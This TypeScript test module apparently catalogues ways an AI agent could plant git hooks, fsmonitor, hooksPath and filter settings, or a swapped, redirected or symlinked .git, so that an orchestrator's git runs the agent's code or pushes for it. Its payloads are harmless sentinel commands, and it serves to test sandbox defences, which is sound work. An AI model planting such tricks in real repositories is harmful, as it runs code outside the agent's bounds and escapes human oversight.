/** Hooks, and a `.git` that is not what it was: laid by an agent, met by the orchestrator's git. */

import { type Family, PUSH, type Sentinel, type TreeTrick, tree } from "../trick.ts";

type More = Partial<Omit<TreeTrick, "door" | "name" | "setup" | "lands">>;

/** A hook in the repository's own folder. */
const hook = (name: string, control?: string, lands: Sentinel = "written"): TreeTrick =>
  tree(
    `the hook ${name}`,
    `printf '#!/bin/sh\\ntouch {outside}/{id}\\n' > {gitdir}/hooks/${name}; chmod +x {gitdir}/hooks/${name}`,
    lands,
    control === undefined ? {} : { control },
  );

/** The worktree's `.git` is not the file that git made, but something of the agent's. */
const swapped = (name: string, setup: string, more: More = {}): TreeTrick =>
  tree(name, setup, "written", { alone: "always", ...more });
const EVIL_REPOSITORY = [
  "git clone -q --bare {checkout} {base}/r-{id}",
  "git --git-dir={base}/r-{id} config core.bare false",
  "git --git-dir={base}/r-{id} config core.fsmonitor '{evil} {id}'",
].join("; ");

export const hooks: Family = {
  name: "hooks and config",
  tricks: [
    hook("pre-commit"),
    hook("prepare-commit-msg"),
    hook("commit-msg"),
    hook("post-commit"),
    hook("post-checkout"),
    hook("post-index-change"),
    hook("reference-transaction"),
    hook("post-merge"),
    hook("pre-merge-commit", "git checkout -q -b m1 HEAD~1; git merge -q --no-edit --no-ff side; git checkout -q next"),
    hook("pre-rebase"),
    hook("post-rewrite", "git commit -q --amend --no-edit"),
    hook("pre-push"),
    hook("sendemail-validate", "git hook run sendemail-validate"),
    tree(
      "a hook that pushes when it is committed",
      `printf '#!/bin/sh\\n${PUSH}\\n' > {gitdir}/hooks/post-commit; chmod +x {gitdir}/hooks/post-commit`,
      "pushed",
      { alone: "without guard" },
    ),
    tree(
      "a filter that pushes",
      `echo '{id}.txt filter={id}' >> .gitattributes; echo x > {id}.txt; printf '#!/bin/sh\\n${PUSH}\\ncat\\n' > {base}/f-{id}; chmod +x {base}/f-{id}; git config --file {gitdir}/config filter.{id}.clean {base}/f-{id}`,
      "pushed",
      { alone: "without guard" },
    ),
    tree(
      "a monitor that pushes",
      `printf '#!/bin/sh\\n${PUSH}\\n' > {base}/f-{id}; chmod +x {base}/f-{id}; git config --file {gitdir}/config core.fsmonitor {base}/f-{id}`,
      "pushed",
      { alone: "without guard" },
    ),
    tree(
      "a folder of hooks in the tree",
      "mkdir h-{id}; printf '#!/bin/sh\\ntouch {outside}/{id}\\n' > h-{id}/pre-commit; chmod +x h-{id}/pre-commit; git config --file {gitdir}/config core.hooksPath {worktree}/h-{id}",
      "written",
      { alone: "without guard" },
    ),
    tree(
      "hooks as husky sets them up",
      "mkdir -p .husky; printf '#!/bin/sh\\ntouch {outside}/{id}\\n' > .husky/pre-commit; chmod +x .husky/pre-commit; git config --file {gitdir}/config core.hooksPath .husky",
      "written",
      { alone: "without guard" },
    ),
    swapped("a .git that points elsewhere", `${EVIL_REPOSITORY}; echo 'gitdir: {base}/r-{id}' > .git`),
    swapped("a .git that is a folder", `${EVIL_REPOSITORY}; rm .git; mv {base}/r-{id} .git`),
    swapped("a .git that is a link", `${EVIL_REPOSITORY}; rm .git; ln -s {base}/r-{id} .git`),
    swapped(
      "a common folder that is another",
      `${EVIL_REPOSITORY}; echo {base}/r-{id} > {gitdir}/worktrees/left/commondir`,
    ),
    swapped(
      "a worktree that is a bare repository",
      "rm .git; git clone -q --bare {checkout} x-{id}; cp -r x-{id}/. .; git --git-dir=. config core.fsmonitor '{evil} {id}'; git --git-dir=. config core.bare false; git --git-dir=. config core.worktree {worktree}",
    ),
    swapped("a .git that is missing, and one above", `rm .git; git -C {checkout} config core.fsmonitor '{evil} {id}'`),
    swapped(
      "alternates with an agent's own objects",
      "mkdir -p o-{id}/pack; echo {worktree}/o-{id} > {gitdir}/objects/info/alternates; git config --file {gitdir}/config core.fsmonitor '{evil} {id}'",
    ),
    swapped(
      "grafts and replacements",
      "git replace HEAD HEAD~1 -f; git config --file {gitdir}/config core.fsmonitor '{evil} {id}'",
    ),
    tree(
      "a submodule that diff looks into",
      "git clone -q {checkout} s-{id}; git -C s-{id} config core.fsmonitor '{evil} {id}'; printf '[submodule \"s\"]\\n\\tpath = s-{id}\\n\\turl = x\\n' > .gitmodules; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),s-{id}",
      "written",
      {
        alone: "always",
      },
    ),
  ],
};
